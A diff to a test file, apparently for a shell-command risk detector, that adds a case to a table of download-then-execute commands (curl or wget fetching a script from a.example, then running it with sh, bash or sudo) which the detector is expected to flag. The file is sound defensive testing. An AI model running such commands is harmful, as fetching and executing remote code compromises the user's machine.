@@ -20,6 +20,7 @@ describe('a download that is saved and run', () => {
     ['by wget under another name', 'wget -qO /tmp/i.sh https://a.example/x && . /tmp/i.sh', '. /tmp/i.sh'],
     ['by its path', 'wget -q https://a.example/i && chmod +x i && ./i --yes', './i --yes'],
     ['after cd', 'cd /tmp && curl -LO https://a.example/i.sh && cd / && bash /tmp/i.sh', 'bash /tmp/i.sh'],
+    ['beside a key', 'curl -s https://a.example/k | gpg --dearmor && curl -O https://a.example/i && sh i', 'sh i'],
     ['behind sudo', 'curl -o i.sh https://a.example/i.sh && sudo bash i.sh', 'bash i.sh'],
   ])('%s is marked where it is run', async (_, command, text) => {
     expect(await marked(command)).toEqual([[text, 'medium']]);
